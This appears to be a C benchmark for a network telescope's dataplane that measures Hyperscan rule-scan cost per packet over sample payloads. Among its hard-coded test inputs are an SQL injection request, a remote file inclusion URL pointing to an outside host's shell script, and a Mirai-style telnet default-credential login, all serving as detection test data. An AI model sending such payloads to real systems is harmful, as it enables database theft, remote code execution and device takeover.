/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * rules_bench.c — Hyperscan cost per payload packet (issue 5): obs_rules_scan() on a
 * fixed mix of telescope payloads (SIP OPTIONS, HTTP GET with and without attack strings,
 * SSDP, telnet busybox, random bytes of 64 / 512 / 1400 bytes), with one worker's cloned
 * scratch, exactly as the dataplane calls it.  Prints ns and TSC cycles per scan for each
 * payload and for the mix.
 *
 *   rules_bench [--iter N] RULES_FILE...
 */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <x86intrin.h>

#include "dataplane/rules.h"

struct payload {
	const char *name;
	uint8_t proto;
	uint16_t dport;
	uint8_t buf[1500];
	uint32_t len;
};

static uint64_t now_ns(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (uint64_t)ts.tv_sec * 1000000000ull + (uint64_t)ts.tv_nsec;
}

static void set(struct payload *p, const char *name, uint8_t proto, uint16_t dport, const char *s)
{
	p->name = name;
	p->proto = proto;
	p->dport = dport;
	p->len = (uint32_t)strlen(s);
	memcpy(p->buf, s, p->len);
}

static void set_rand(struct payload *p, const char *name, uint32_t len, uint32_t seed)
{
	p->name = name;
	p->proto = 17;
	p->dport = 40000;
	p->len = len;
	for (uint32_t i = 0; i < len; i++) {
		seed = seed * 1103515245u + 12345u;
		p->buf[i] = (uint8_t)(seed >> 16);
	}
}

static void count(void *arg, uint32_t idx, const struct obs_rule_info *ri)
{
	(void)idx;
	(void)ri;
	(*(uint64_t *)arg)++;
}

int main(int argc, char **argv)
{
	struct obs_rules_src src[32];
	unsigned n_src = 0;
	long iter = 200000;
	struct payload p[10];
	unsigned np = 0;
	char err[256];
	struct obs_rules *r;
	hs_scratch_t *s = NULL;
	const struct obs_rules_stats *st;
	uint64_t tot_ns = 0, tot_cyc = 0, tot_n = 0;

	for (int i = 1; i < argc; i++) {
		if (strcmp(argv[i], "--iter") == 0 && i + 1 < argc)
			iter = atol(argv[++i]);
		else if (n_src < 32)
			src[n_src++] = (struct obs_rules_src){ argv[i], NULL };
	}
	if (n_src == 0 || iter <= 0) {
		fprintf(stderr, "usage: rules_bench [--iter N] RULES_FILE...\n");
		return 2;
	}
	r = obs_rules_load(src, n_src, NULL, NULL, err, sizeof(err));
	if (!r) {
		fprintf(stderr, "rules_bench: %s\n", err);
		return 1;
	}
	st = obs_rules_stats(r);
	printf("rules: %u accepted, %u rejected, %u commented, %u patterns; db %llu B, "
	       "scratch %llu B\n", st->n_accepted, st->n_rejected, st->n_commented, st->n_patterns,
	       (unsigned long long)st->db_bytes, (unsigned long long)st->scratch_bytes);
	if (obs_rules_scratch_clone(r, &s) != 0) {
		fprintf(stderr, "rules_bench: no scratch\n");
		return 1;
	}
	set(&p[np++], "sip-options", 17, 5060,
	    "OPTIONS sip:100@198.18.0.1 SIP/2.0\r\nVia: SIP/2.0/UDP 10.0.0.1:5060;branch=z9hG4bK-1\r\n"
	    "From: \"sipvicious\"<sip:100@1.1.1.1>;tag=1\r\nTo: <sip:100@1.1.1.1>\r\n"
	    "User-Agent: friendly-scanner\r\nContent-Length: 0\r\n\r\n");
	set(&p[np++], "http-get-clean", 6, 80,
	    "GET /index.html HTTP/1.1\r\nHost: 198.18.0.1\r\nUser-Agent: Mozilla/5.0 (zgrab)\r\n"
	    "Accept: */*\r\nConnection: close\r\n\r\n");
	set(&p[np++], "http-sqli", 6, 80,
	    "GET /item.php?id=1%20UNION%20SELECT%20user,password%20FROM%20users-- HTTP/1.1\r\n"
	    "Host: 198.18.0.1\r\n\r\n");
	set(&p[np++], "http-rfi", 6, 80,
	    "GET /index.php?page=http://203.0.113.9/shell.txt? HTTP/1.1\r\nHost: x\r\n\r\n");
	set(&p[np++], "ssdp", 17, 1900,
	    "M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: \"ssdp:discover\"\r\nMX: 1\r\n"
	    "ST: ssdp:all\r\n\r\n");
	set(&p[np++], "telnet-busybox", 6, 23, "root\r\nxc3511\r\nenable\r\nshell\r\n/bin/busybox MIRAI\r\n");
	set_rand(&p[np++], "random-64", 64, 1);
	set_rand(&p[np++], "random-512", 512, 2);
	set_rand(&p[np++], "random-1400", 1400, 3);

	printf("%-16s %6s %8s %10s %8s\n", "payload", "bytes", "matches", "ns/scan", "cycles");
	for (unsigned k = 0; k < np; k++) {
		uint64_t m = 0, t0, t1, c0, c1;

		for (long i = 0; i < iter / 10; i++)      /* warm up */
			obs_rules_scan(r, s, p[k].buf, p[k].len, p[k].proto, p[k].dport, NULL, NULL);
		t0 = now_ns();
		c0 = __rdtsc();
		for (long i = 0; i < iter; i++)
			obs_rules_scan(r, s, p[k].buf, p[k].len, p[k].proto, p[k].dport, count, &m);
		c1 = __rdtsc();
		t1 = now_ns();
		printf("%-16s %6u %8.2f %10.1f %8.0f\n", p[k].name, p[k].len, (double)m / (double)iter,
		       (double)(t1 - t0) / (double)iter, (double)(c1 - c0) / (double)iter);
		tot_ns += t1 - t0;
		tot_cyc += c1 - c0;
		tot_n += (uint64_t)iter;
	}
	printf("%-16s %6s %8s %10.1f %8.0f\n", "mix (mean)", "", "", (double)tot_ns / (double)tot_n,
	       (double)tot_cyc / (double)tot_n);
	obs_rules_scratch_free(s);
	obs_rules_free(r);
	return 0;
}
